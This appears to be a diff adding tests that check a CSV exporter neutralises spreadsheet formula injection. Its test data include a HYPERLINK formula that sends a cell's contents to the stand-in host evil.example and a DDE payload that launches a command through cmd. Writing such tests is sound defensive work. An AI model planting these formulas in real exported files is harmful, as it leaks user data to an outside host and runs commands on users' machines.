@@ -74,6 +74,41 @@ def test_every_text_is_escaped_in_html() -> None:
     assert list(csv.reader(io.StringIO(tables_csv([table])))) == [["section", f"c{evil}"], [f"s{evil}", evil]]
 
 
+#: Text a spreadsheet would run as a formula (OWASP's list of first characters), and what the CSV holds.
+FORMULAS = {
+    '=HYPERLINK("http://evil.example/?"&A1,"click")': '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
+    "-2+3": "'-2+3",
+    "-5": "'-5",  # text that looks like a number is still text: shown as -5, never run
+    "@SUM(1,2)": "'@SUM(1,2)",
+    "\t=1": "'\t=1",
+    "\r=1": "'\r=1",
+    "a=1": "a=1",
+    " =1": " =1",
+}
+
+
+def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralised() -> None:
+    rows = [[text, -3, -2.5, 0] for text in FORMULAS]
+    table = Table("=section", ["name", "-n", "x", "y"], rows)
+    read = list(csv.reader(io.StringIO(tables_csv([table]), newline="")))
+    assert read[0] == ["section", "name", "'-n", "x", "y"]
+    assert [row[1] for row in read[1:]] == list(FORMULAS.values())
+    assert {row[0] for row in read[1:]} == {"'=section"}
+    # Numbers are numbers, negative ones too: written bare, so a spreadsheet reads them as numbers.
+    assert {tuple(row[2:]) for row in read[1:]} == {("-3", "-2.5", "0")}
+
+
+def test_a_system_named_like_a_formula_is_neutralised_in_the_connectivity_csv() -> None:
+    report = connectivity_sample()
+    evil = report.systems[0].model_copy(update={"name": '=HYPERLINK("http://evil.example","x")'})
+    report = report.model_copy(update={"systems": [evil]})
+    sections = list(csv.reader(io.StringIO(connectivity_html.report_csv(report), newline="")))
+    names = [row for row in sections if row and row[0] == "systems"]
+    assert names and '\'=HYPERLINK("http://evil.example","x")' in names[0]
+    assert not any(cell.startswith("=") for row in sections for cell in row)
+
+
 def test_a_page_holds_its_style_and_body() -> None:
     assert html_page("A & B", "td{x:1}", "<h1>A</h1>", "<p>b</p>") == (
         "<!doctype html><html lang='en'><head><meta charset='utf-8'><title>A &amp; B</title>"
